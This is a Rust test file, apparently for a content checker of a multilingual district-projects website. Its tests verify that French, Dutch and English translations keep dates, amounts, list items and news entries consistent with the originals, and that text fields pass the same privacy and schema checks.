    let e = expect_only(&d, "i18n.translation", TRANSLATION, 4, 1);
    for (lang, words) in [
        (Lang::En, ["`roadmap`", "has 1 item here", "has 2"]),
        (Lang::Fr, ["`roadmap`", "ici 1 élément,", "compte 2"]),
        (Lang::Nl, ["`roadmap`", "hier 1 item,", "telt er 2"]),
    ] {
        let m = e.message_in(lang);
        assert!(words.iter().all(|w| m.contains(w)), "{m}");
    }
}

#[test]
fn rejects_a_translated_update_with_another_date() {
    let s = Site::base();
    translate_lists(
        &s,
        "updates:\n  - {date: 2024-10-06, text: Eerste oogst.}\n",
    );
    let d = s.check();
    let e = expect_only(&d, "i18n.translation", TRANSLATION, 5, 12);
    let m = e.message_in(Lang::Nl);
    assert!(m.contains("2024-10-06") && m.contains("2024-10-05"), "{m}");
}

#[test]
fn rejects_an_evaluation_summary_for_an_edition_without_one() {
    let s = Site::base();
    let nl = "content/districts/wiels/district.nl.md";
    s.write(
        nl,
        "---\ntitle: Wielswijk\ndossiers:\n  - {edition: 2024, evaluation: {summary: Een balans.}}\n---\nEen wijk.\n",
    );
    // The 2024 dossier has no evaluation yet; 2023 has no dossier at all.
    let d = s.check();
    let e = expect_only(&d, "i18n.translation", nl, 4, 15);
    assert!(e.message_in(Lang::En).contains("edition 2024"), "{e:?}");
    s.edit(
        DISTRICT,
        "outcome: selected}",
        "outcome: selected}\n    evaluation: {date: 2025-06-20, summary: \"Un bilan.\"}",
    );
    s.edit(nl, "edition: 2024", "edition: 2023");
    expect_only(&s.check(), "i18n.translation", nl, 4, 15);
}

#[test]
fn rejects_dates_amounts_and_categories_in_translated_lists() {
    let s = Site::base();
    let lists = DUTCH_LISTS
        .replace("{step: Planten}", "{step: Planten, due: 2024-10-02}")
        .replace("{label: Affiches}", "{label: Affiches, amount: 180}")
        .replace("  lines:", "  granted: 2000\n  lines:");
    translate_lists(&s, &lists);
    let d = s.check();
    expect(&d, "i18n.translation", TRANSLATION, 6, 21);
    expect(&d, "i18n.translation", TRANSLATION, 8, 3);
    expect(&d, "i18n.translation", TRANSLATION, 11, 25);
    assert_eq!(errors(&d), 3, "{d:#?}");
    let e = d
        .iter()
        .find(|e| e.span.line == 6)
        .map(|e| e.message_in(Lang::En));
    assert!(e.unwrap_or_default().contains("`roadmap.due`"), "{d:#?}");
}

#[test]
fn checks_translated_list_texts_as_the_originals() {
    let s = Site::base();
    let lists = DUTCH_LISTS.replace("Eerste oogst.", "Schrijf naar jan@example.org");
    translate_lists(&s, &lists);
    let d = s.check();
    expect(&d, "privacy.email", TRANSLATION, 12, 30);
    let s = Site::base();
    translate_lists(&s, &DUTCH_LISTS.replace("{step: Planten}", "{step: \" \"}"));
    expect_only(&s.check(), "schema.invalid-value", TRANSLATION, 6, 12);
}

#[test]
fn warns_of_an_intention_note_the_call_does_not_ask_for() {
    let s = Site::base();
    s.edit(
        DISTRICT,
        "    submitted: 2024-05-28",
        "    intention: 2024-03-30\n    submitted: 2024-05-28",
    );
    let diags = s.check();
    let d = expect_only(&diags, "phase.requirement", DISTRICT, 12, 16);
    assert_eq!(d.severity, Severity::Warning);
    assert!(
        d.message_in(Lang::Fr)
            .contains("l'appel 2024 ne demande pas de note d'intention"),
        "{}",
        d.message_in(Lang::Fr)
    );
    assert!(d
        .help_in(Lang::Nl)
        .unwrap_or_default()
        .contains("intention_deadline"));
}

#[test]
fn accepts_a_translation_whose_news_is_behind_the_original() {
    let s = Site::base();
    // A news item added to the original since (as the editor does): the translation gives the
    // first one only.
    s.edit(
        "content/districts/wiels/projects/potager.md",
        "  - {date: 2024-10-05, text: \"Premières récoltes.\"}\n",
        "  - {date: 2024-10-05, text: \"Premières récoltes.\"}\n  - {date: 2024-11-02, text: \"Fête.\"}\n",
    );
    translate_lists(
        &s,
        "updates:\n  - {date: 2024-10-05, text: Eerste oogst.}\n",
    );
    expect_clean(&s.check());
    // More news than the original has is a mistake.
    let s = Site::base();
    translate_lists(&s, "updates:\n  - {text: Een.}\n  - {text: Twee.}\n");
    expect_only(&s.check(), "i18n.translation", TRANSLATION, 4, 1);
}
